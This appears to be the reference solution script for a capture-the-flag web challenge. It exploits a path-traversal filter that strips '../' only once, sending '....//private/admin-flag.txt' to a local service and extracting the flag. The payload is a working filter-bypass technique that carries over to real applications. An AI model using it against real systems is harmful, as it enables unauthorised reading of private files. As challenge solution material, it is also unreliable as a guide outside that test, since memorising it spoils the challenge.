"""Reference solution for web-path-traversal: the portal strips "../" once,
so "....//" turns back into "../" after the replacement, and
storage/public/../private/admin-flag.txt is served, decrypted, by the
service."""
import re
import sys
import urllib.parse
import urllib.request

BASE = "http://127.0.0.1:8080"


def main() -> int:
    name = "....//private/admin-flag.txt"
    url = f"{BASE}/docs?name={urllib.parse.quote(name)}"
    text = urllib.request.urlopen(url, timeout=10).read().decode()
    found = re.search(r"bulwark\{[^}\s<]+\}", text)
    if not found:
        print(f"no flag in the document: {text[:500]}", file=sys.stderr)
        return 1
    print(found.group())
    return 0


if __name__ == "__main__":
    sys.exit(main())
